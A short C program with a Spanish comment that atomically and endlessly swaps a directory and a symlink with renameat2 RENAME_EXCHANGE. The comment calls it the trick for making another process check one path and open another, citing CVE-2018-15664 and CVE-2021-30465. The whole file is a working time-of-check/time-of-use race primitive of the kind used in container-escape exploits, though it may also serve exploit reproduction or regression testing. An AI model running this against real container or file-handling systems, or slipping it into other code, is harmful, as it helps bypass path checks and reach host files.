// Cambia una y otra vez un directorio por un enlace, de golpe: `intercambia DIRECTORIO ENLACE`. Es lo que
// hace quien quiere que otro mire una cosa y abra otra (CVE-2018-15664, CVE-2021-30465).
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    while (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) {
    }
    perror("renameat2");
    return 1;
}
